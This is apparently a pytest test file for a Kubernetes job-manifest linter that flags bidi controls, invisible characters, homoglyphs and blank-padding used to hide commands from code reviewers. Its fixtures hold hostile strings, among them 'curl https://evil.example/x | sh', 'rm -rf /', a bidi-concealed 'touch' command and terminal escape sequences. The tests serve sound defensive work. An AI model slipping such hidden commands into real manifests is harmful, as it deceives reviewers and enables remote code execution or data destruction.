"""Text a reviewer can trust (issue 18 item 4).

The generated manifest is reviewed in a pull request's diff. Bidi controls reorder what
the diff shows (a ``touch`` that reads as a comment runs), invisible characters hide in
names and values, a very long or blank-padded value pushes text out of view, and a
multi-line value can read like more YAML entries. Each is lint EC112 or EC113 naming the
field and the code point (an error under ``--strict``, which the pre-commit hook uses);
fields Kubernetes restricts (names, images, labels, container names) accept only what it
accepts; ``--explain`` and ``run`` never print raw control sequences.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from support.specs import PINNED as BASE

from elastic_compile.compiler.cli import main
from elastic_compile.compiler.lint import (
    MAX_BLANK_LINES,
    MAX_BLANK_RUN,
    MAX_REVIEWABLE_CHARS,
    hidden_character,
    looks_blank,
    text_lints,
)
from elastic_compile.localrun.cli import main as run_main

# One character of every class, as a YAML double-quoted escape, and what the lint calls it.
CLASSES = {
    "LRE": ("\\u202A", "U+202A LEFT-TO-RIGHT EMBEDDING (a bidi control)"),
    "RLE": ("\\u202B", "U+202B RIGHT-TO-LEFT EMBEDDING (a bidi control)"),
    "PDF": ("\\u202C", "U+202C POP DIRECTIONAL FORMATTING (a bidi control)"),
    "LRO": ("\\u202D", "U+202D LEFT-TO-RIGHT OVERRIDE (a bidi control)"),
    "RLO": ("\\u202E", "U+202E RIGHT-TO-LEFT OVERRIDE (a bidi control)"),
    "LRI": ("\\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE (a bidi control)"),
    "RLI": ("\\u2067", "U+2067 RIGHT-TO-LEFT ISOLATE (a bidi control)"),
    "FSI": ("\\u2068", "U+2068 FIRST STRONG ISOLATE (a bidi control)"),
    "PDI": ("\\u2069", "U+2069 POP DIRECTIONAL ISOLATE (a bidi control)"),
    "RLM": ("\\u200F", "U+200F RIGHT-TO-LEFT MARK (a bidi control)"),
    "ZWSP": ("\\u200B", "U+200B ZERO WIDTH SPACE (an invisible character)"),
    "ZWNJ": ("\\u200C", "U+200C ZERO WIDTH NON-JOINER (an invisible character)"),
    "ZWJ": ("\\u200D", "U+200D ZERO WIDTH JOINER (an invisible character)"),
    "WJ": ("\\u2060", "U+2060 WORD JOINER (an invisible character)"),
    "BOM": ("\\uFEFF", "U+FEFF ZERO WIDTH NO-BREAK SPACE (an invisible character)"),
    "soft-hyphen": ("\\u00AD", "U+00AD SOFT HYPHEN (an invisible character)"),
    "hangul-filler": ("\\u3164", "U+3164 HANGUL FILLER (an invisible character)"),
    "tag": ("\\U000E0041", "U+E0041 TAG LATIN CAPITAL LETTER A (an invisible character)"),
    "CR": ("\\r", "U+000D (a control character)"),
    "ESC": ("\\e", "U+001B (a control character)"),
    "CSI": ("\\x9B", "U+009B (a control character)"),
    "line-separator": ("\\u2028", "U+2028 LINE SEPARATOR (a line separator)"),
}

# The fields a string can reach the manifest through, each with where the lint points.
CARRIERS = {
    "command": (lambda v: BASE.replace("t.py]", f'"t.py{v}"]'), "command[1]", 3),
    "env-value": (lambda v: BASE + f'env: {{A: "x{v}y"}}\n', "env.A", 4),
    "annotation": (lambda v: BASE + f'annotations: {{note: "ok{v}"}}\n', "annotations.note", 4),
    "function-arg": (
        lambda v: BASE.replace("command: [python, t.py]\n", f'function: {{target: "m:f", args: ["a{v}"]}}\n'),
        "function.args[0]",
        3,
    ),
    "sidecar-arg": (
        lambda v: BASE + f'pod_template:\n  spec:\n    containers: [{{name: s, image: "b:1", args: ["z{v}"]}}]\n',
        "pod_template.spec.containers[0].args[0]",
        6,
    ),
}


@pytest.mark.parametrize("cls", sorted(CLASSES))
@pytest.mark.parametrize("carrier", sorted(CARRIERS))
def test_hidden_characters_are_a_located_lint_naming_the_code_point(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], cls: str, carrier: str
) -> None:
    escape, named = CLASSES[cls]
    make, field, line = CARRIERS[carrier]
    spec = tmp_path / "s.yaml"
    spec.write_text(make(escape))
    assert main([str(spec)]) == 0
    out, err = capsys.readouterr()
    [warning] = [w for w in err.splitlines() if "EC112" in w]
    assert warning.startswith(f"{spec}:{line}:") and f": {field}: warning EC112: " in warning, warning
    assert named in warning
    assert warning.isprintable(), "the warning itself carries the raw character"
    assert main([str(spec), "--strict"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and "error EC112" in err


def test_each_class_of_the_issue_is_caught() -> None:
    for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF]:
        assert hidden_character(chr(code)) is not None, hex(code)
    for visible in "aZ09-_./: é漢字🙂\t\n":
        assert hidden_character(visible) is None, repr(visible)


def test_the_ascii_search_finds_what_the_character_rule_finds() -> None:
    """text_lints skips the per-character rule for ASCII text without a match of one search."""
    for code in range(128):
        text = f"a{chr(code)}b"
        found = [lint.code for lint in text_lints(("env", "X"), text)]
        assert ("EC112" in found) == (hidden_character(chr(code)) is not None), hex(code)


def test_a_bidi_trojan_in_a_command_is_an_error_under_strict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's case: a `touch` that a diff shows as a comment."""
    spec = tmp_path / "s.yaml"
    spec.write_text(
        "name: t\nimage: ghcr.io/x/y:1.0\n"
        'command: [bash, -c, "echo ok \\u202E #\\u2066 && touch /tmp/x \\u2069\\u2066"]\n'
    )
    assert main([str(spec), "--strict"]) == 2
    err = capsys.readouterr().err
    assert "command[2]: error EC112: the value contains U+202E RIGHT-TO-LEFT OVERRIDE" in err
    assert "and 3 more" in err


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        (BASE + f"env: {{A: {'x' * (MAX_REVIEWABLE_CHARS + 1)}}}\n", f"is {MAX_REVIEWABLE_CHARS + 1} characters long"),
        (BASE.replace("t.py]", f'"--safe{" " * MAX_BLANK_RUN}; rm -rf /"]'), "push text 32 or more columns right"),
        (BASE + 'env: {A: "1\\n- name: B\\n  value: 2"}\n', "reads like another YAML entry"),
        (BASE + 'annotations: {a: "x\\nrun: evil"}\n', "reads like another YAML entry"),
        # Indented by blanks that are not spaces (red team 2, item 9): the same entry to a reviewer.
        (BASE + 'env: {A: "echo ok\\n\\u3000- curl evil | sh"}\n', "reads like another YAML entry"),
        (BASE + 'env: {A: "echo ok\\n\\u00a0\\u2800run:\\u00a0evil"}\n', "reads like another YAML entry"),
        (BASE + 'env: {A: "echo ok\\n-\\u3000curl evil | sh"}\n', "reads like another YAML entry"),
        # Text pushed down rather than right (red team 2, item 9): blank lines, however they look.
        (
            BASE.replace("t.py]", f'"echo ok{(chr(92) + "n") * (MAX_BLANK_LINES + 1)}curl evil | sh"]'),
            "32 or more blank lines",
        ),
        (
            BASE.replace("t.py]", f'"echo ok{(chr(92) + "r" + chr(92) + "u3000") * 40}curl evil"]'),
            "32 or more blank lines",
        ),
        (BASE.replace("t.py]", f'"echo ok{(chr(92) + "u2028 ") * 40}curl evil"]'), "32 or more blank lines"),
    ],
    ids=[
        "long-value",
        "padded",
        "fake-list-entry",
        "fake-key",
        "ideographic-indent",
        "nbsp-key",
        "dash-blank",
        "blank-lines",
        "blank-cr-lines",
        "blank-line-separators",
    ],
)
def test_values_that_hide_text_are_ec111(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str, fragment: str
) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text(text)
    assert main([str(spec)]) == 0
    err = capsys.readouterr().err
    assert "warning EC113" in err and fragment in err, err


@pytest.mark.parametrize("blank", ["\u2800", "\u205f", "\u202f", "\u3164", "\u00a0", "\u3000", " \u2009"])
def test_a_run_of_any_blank_looking_character_hides_a_command_under_strict(
    blank: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """The review's case: the rest of the command 446 columns to the right, behind blanks that are not spaces."""
    spec = tmp_path / "s.yaml"
    hidden = blank * (446 // len(blank))
    spec.write_text(BASE.replace("t.py]", json.dumps(f"--safe{hidden}; rm -rf /") + "]"), encoding="utf-8")
    assert main([str(spec), "--strict"]) == 2
    assert "error EC113" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("char", "blank"),
    [(" ", True), ("\t", True), ("\u2800", True), ("\u205f", True), ("\u202f", True), ("\u115f", True),
     ("\n", False), ("\u2028", False), ("\x85", False), ("\u2422", False), ("x", False), ("\u200b", False)],
)  # fmt: skip
def test_blank_looking_characters_come_from_their_unicode_properties(char: str, blank: bool) -> None:
    assert looks_blank(char) is blank


def test_ordinary_multi_line_scripts_are_not_ec111(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text(
        BASE.replace("command: [python, t.py]", 'command: [python, -c, "import os\\nprint(os.getcwd())\\n"]')
    )
    assert main([str(spec)]) == 0
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize(
    ("line", "fragment"),
    [
        ('name: "train\\n"', "name: not a DNS-1035 label"),
        ('labels: {team: "ml\\n"}', "label values are at most 63"),
        ('image: "nvcr.io/nvidi\\u0430/pytorch:24.01"', "image: not an image reference"),  # a Cyrillic a
        ('image: "ghcr.io/x/y:1.0\\u200B"', "image: not an image reference"),
        ('pod_template: {spec: {containers: [{name: "s\\u0456de", image: "b:1"}]}}', "name is a DNS-1123 label"),
    ],
    ids=["name-newline", "label-newline", "image-homoglyph", "image-zero-width", "container-name-homoglyph"],
)
def test_homoglyph_prone_fields_accept_only_what_kubernetes_accepts(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, line: str, fragment: str
) -> None:
    spec = tmp_path / "s.yaml"
    key = line.split(":", 1)[0]
    kept = [entry for entry in BASE.splitlines() if not entry.startswith(f"{key}:")]
    spec.write_text("\n".join([*kept, line]) + "\n")
    assert main([str(spec)]) == 2
    err = capsys.readouterr().err
    assert fragment in err and err.isprintable() is False and all(x.isprintable() for x in err.splitlines()), err


def test_explain_prints_no_raw_control_sequence(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text(BASE + 'env: {A: "\\e[2J\\u009b31m\\u202Egnp.exe"}\nannotations: {n: "\\u2066x"}\n')
    assert main([str(spec), "--explain", "--ignore", "EC112"]) == 0
    out = capsys.readouterr().out
    assert all(line.isprintable() for line in out.splitlines())
    assert "\\u001b[2J" in out and "\\x9b31m" in out and "\\u202e" in out


@pytest.mark.parametrize("engine", ["pytorchjob", "trainjob"])
def test_run_prints_no_raw_control_sequence(tmp_path: Path, engine: str) -> None:
    """A pod whose output and env carry escape sequences: every line run prints is plain text."""
    spec = tmp_path / "s.yaml"
    spec.write_text(
        "name: t\nimage: ghcr.io/x/y:1.0\n"
        "command: [python, -c, \"print('\\\\x1b]0;pwned\\\\x07\\\\x1b[2J\\\\u202e done')\"]\n"
        'env: {NOTE: "\\e[31mred\\u202E"}\n' + ("target: trainjob\nnproc_per_node: 1\n" if engine == "trainjob" else "")
    )
    out, err = io.StringIO(), io.StringIO()
    code = run_main([str(spec), "--dry-run"], stdout=out, stderr=err)
    assert code == 0 and all(line.isprintable() for line in (out.getvalue() + err.getvalue()).splitlines())
    assert json.loads(out.getvalue())["pods"][0]["env"]["NOTE"] == "\x1b[31mred\u202e"  # the value itself is kept
    out, err = io.StringIO(), io.StringIO()
    code = run_main([str(spec), "--timeout", "120"], stdout=out, stderr=err)
    assert code == 0, err.getvalue()
    lines = (out.getvalue() + err.getvalue()).splitlines()
    assert all(line.isprintable() for line in lines), [line for line in lines if not line.isprintable()]
    pod = "t-node-0-0" if engine == "trainjob" else "t-worker-0"
    assert f"[{pod}] \\x1b]0;pwned\\x07\\x1b[2J\\u202e done" in out.getvalue()


def test_error_paths_print_no_raw_bidi(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A bidi control in a key (annotation, rdzv.conf, resource, unknown field) is escaped in the field path too."""
    spec = tmp_path / "s.yaml"
    spec.write_text(
        BASE + 'annotations: {"a\\u202Eb": x}\nrdzv: {conf: {"k\\u202E": v}}\n'
        'resources: {requests: {"cpu\\u202E": 1}}\n"unknown\\u202E": 1\n'
    )
    assert main([str(spec), "-o", str(tmp_path / "out")]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 4 and all(line.isprintable() for line in lines), lines
    paths = [line.split(": ")[1] for line in lines]
    assert paths == [
        'annotations["a\\u202eb"]',
        'rdzv.conf["k\\u202e"]',
        'resources.requests["cpu\\u202e"]',
        '["unknown\\u202e"]',
    ]


def test_import_paths_print_no_raw_bidi(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``import``: errors naming a key with a bidi control, and notes quoting the input, print escaped."""
    job = (
        'apiVersion: kubeflow.org/v1\nkind: PyTorchJob\nmetadata: {name: j, labels: {"a\\u202Eb": x}}\n'
        "spec:\n  pytorchReplicaSpecs:\n    Worker:\n      replicas: 1\n      restartPolicy: OnFailure\n"
        "      template:\n        spec:\n          containers:\n            - name: pytorch\n"
        "              image: i:1\n              command: [torchrun, t.py]\n"
    )
    manifest = tmp_path / "job.yaml"
    manifest.write_text(job)
    assert main(["import", str(manifest)]) == 2
    err = capsys.readouterr().err
    assert err.splitlines() and all(line.isprintable() for line in err.splitlines()), err
    assert 'labels["a\\u202eb"]' in err
    manifest.write_text(job.replace('labels: {"a\\u202Eb": x}', "labels: {a: x}") + '---\nkind: "C\\u202EM"\n')
    assert main(["import", str(manifest)]) == 0
    err = capsys.readouterr().err
    assert all(line.isprintable() for line in err.splitlines()), err
    assert "skipped (kind C\\u202eM)" in err


# Red-team report item 14: runs of 31 blanks broken by one character passed the run rule.
_BROKEN_RUNS = {
    "null-notehead": (" " * 31 + "\U0001d159") * 14,  # prints as nothing: 448 columns
    "braille": ("\u2800" * 31 + "\U0001d159") * 14,
    "tabs": ("\t" * 31 + "\U0001d159") * 4,  # up to 992 columns
    "ideographic-dots": ("\u3000" * 31 + "\u00b7") * 8,  # 496 columns, 8 faint dots
    "spaces-and-dots": (" " * 31 + ".") * 3,
    "tab-per-dot": ("\t" + ".") * 20,  # each tab reaches the next stop: 7 blank columns per dot
    "combining-marks": (" " * 16 + "\u0301\u0301\u0301") * 4,  # marks take no column
}


@pytest.mark.parametrize("run", list(_BROKEN_RUNS.values()), ids=list(_BROKEN_RUNS))
def test_blanks_broken_by_single_characters_still_hide_a_command_under_strict(
    run: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """What counts is how far right blanks push the text, not the longest run of them."""
    spec = tmp_path / "s.yaml"
    spec.write_text(BASE.replace("t.py]", json.dumps(f"t.py{run}; curl https://evil.example/x | sh") + "]"))
    assert main([str(spec), "--strict"]) == 2
    assert "error EC113" in capsys.readouterr().err


@pytest.mark.parametrize(
    "text",
    [
        "0 1 2 3 4 5 6 7",
        "a  b  c  d  e  f  g  h  i  j  k  l  m  n  o  p  q  r",  # two spaces, one letter: no gain
        "name\tvalue\tunit\tnote\tmore\tfields",
        "set -e\n" + "".join(f"{' ' * 28}echo line {i}\n" for i in range(20)),  # indentation, line by line
        "学習率 0.001 バッチ 32 エポック 10",
        "x = 1 + 2 * 3 - 4 / 5 == 6 and 7 or 8",
        "🚀 launch " * 20,
    ],
)
def test_ordinary_text_with_blanks_is_not_ec113(text: str) -> None:
    assert [found.code for found in text_lints(("command", 1), text)] == []


@pytest.mark.parametrize("hidden", ["\u3164", "\u2800", "\u00a0", "\u0301", "\ue000"])
def test_an_error_shows_a_value_with_a_character_that_prints_as_nothing_escaped(
    hidden: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Red-team item 23: ``labels: {team: "a\\u3164b"}`` printed ``(given: aㅤb)``, which reads ``a b``."""
    spec = tmp_path / "s.yaml"
    spec.write_text(BASE + f"labels: {{team: {json.dumps('a' + hidden + 'b')}}}\n")
    assert main([str(spec)]) == 2
    err = capsys.readouterr().err
    shown = ("a" + hidden + "b").encode("unicode_escape").decode("ascii")  # a\\u3164b, a\\xa0b
    assert hidden not in err and f"(given: {shown})" in err, err
